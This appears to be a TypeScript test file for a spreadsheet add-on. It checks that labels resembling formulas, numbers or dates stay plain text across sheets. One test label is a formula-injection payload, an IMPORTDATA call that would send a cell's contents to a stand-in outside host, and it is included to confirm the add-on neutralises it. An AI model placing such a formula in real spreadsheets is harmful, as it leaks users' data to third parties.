import type { Headless } from '../../workbench/headless';
import { columnUnder } from './support/column-under';
import { openFewer, readTable } from './support/workbook';

/** A label stays the text it is wherever the add-on writes it: in its list, in the tables, beside a number typed over a target. */

const LABELS = ['=IMPORTDATA("https://e.example/?"&B5)', '=1+1', '007', '1-9', '10%', '+33', 'TRUE'];

let book: Headless;
afterEach(() => book.close());

const target = async (label: string): Promise<string> => {
  const { at, rows } = await readTable(book, '4 Commitments', 'Target leads');
  return `B${at + 1 + rows.indexOf(label)}`;
};
/** The cells of a column that are any of the labels, and whether one of them is a formula or no text. */
async function found(tab: string, area: string): Promise<{ texts: unknown[]; formulas: string[] }> {
  const [values, formulas] = [await book.readValues(tab, area), await book.readFormulas(tab, area)];
  return {
    texts: values.flat().filter((cell) => LABELS.includes(String(cell))),
    formulas: formulas.flat().filter((formula) => formula !== ''),
  };
}

test('channels that look like formulas, dates or numbers', async () => {
  book = await openFewer();
  for (const [i, label] of LABELS.entries()) await book.edit('Leads', `C${i + 2}`, `'${label}`);
  await book.run('api', 'addMissingLabels');
  expect(await found('Leads', 'C2:C8')).toEqual({ texts: LABELS, formulas: [] });
  const listed = await found('Settings', 'O5:O40');
  expect({ ...listed, texts: new Set(listed.texts) }).toEqual({ texts: new Set(LABELS), formulas: [] });

  for (const [i, label] of LABELS.entries()) {
    await book.edit('4 Commitments', await target(label), 40 + i);
    await book.idle();
  }
  const list = await book.readValues('Settings', 'J4:N40');
  expect(columnUnder(list, 'Channel')).toEqual(LABELS);
  expect(columnUnder(list, 'Leads')).toEqual(LABELS.map((_, i) => 40 + i));
  await book.run('api', 'refresh');
  const { rows, cell, columns } = await readTable(book, '4 Commitments', 'Leads committed, by channel and persona');
  expect(rows).toEqual(expect.arrayContaining(LABELS));
  expect(LABELS.map((label) => cell(label, columns[0]!))).toEqual(LABELS.map((_, i) => String(40 + i)));
});
